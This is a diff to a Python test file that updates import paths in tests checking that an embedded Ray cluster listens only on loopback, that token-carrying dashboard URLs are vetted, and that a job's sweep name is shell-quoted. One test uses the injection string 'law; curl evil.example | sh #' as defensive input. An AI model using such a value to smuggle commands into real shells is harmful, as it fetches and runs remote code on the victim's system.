@@ -143,7 +143,7 @@ def test_the_token_never_reaches_logs_experiment_or_exports(embedded_sweep, tmp_
 
 @pytest.mark.slow
 def test_every_socket_of_the_embedded_ray_listens_on_loopback(embedded_sweep, request):
-    """The embedded Ray (orchestrator.ray_session.start_ray) keeps its node address 127.0.0.1, so GCS,
+    """The embedded Ray (orchestrator.tune.ray_session.start_ray) keeps its node address 127.0.0.1, so GCS,
     raylet, agents, workers and the driver bind loopback. No exceptions are needed: any socket that
     is not loopback fails this test, listed with its process."""
     found = sorted(embedded_sweep["listeners"], key=lambda x: (x.process, x.port))
@@ -165,7 +165,7 @@ def test_every_socket_of_the_embedded_ray_listens_on_loopback(embedded_sweep, re
     ("ftp://127.0.0.1", False), ("http://", False),
 ])
 def test_dashboard_urls_that_may_carry_the_token(url, allowed):
-    from orchestrator.cli import dashboard_url_problem
+    from orchestrator.cli.main import dashboard_url_problem
 
     problem = dashboard_url_problem(url)
     assert (problem is None) is allowed, problem
@@ -186,7 +186,7 @@ def test_plain_http_to_another_host_is_refused_before_anything_is_sent():
 def test_the_law_job_quotes_the_sweep_name_for_the_shell():
     import shlex
 
-    from orchestrator.cli import law_job_entrypoint
+    from orchestrator.cli.main import law_job_entrypoint
 
     assert law_job_entrypoint(None) == "memlaw law --address auto --json"
     hostile = "law; curl evil.example | sh #"
@@ -199,7 +199,8 @@ def test_rays_token_file_is_tightened_to_0600(tmp_path, monkeypatch):
     import sys
     import types
 
-    from orchestrator import cli, ray_session
+    from orchestrator.cli import main as cli
+    from orchestrator.tune import ray_session
 
     token = tmp_path / "auth_token"
     token.write_text(TOKEN)
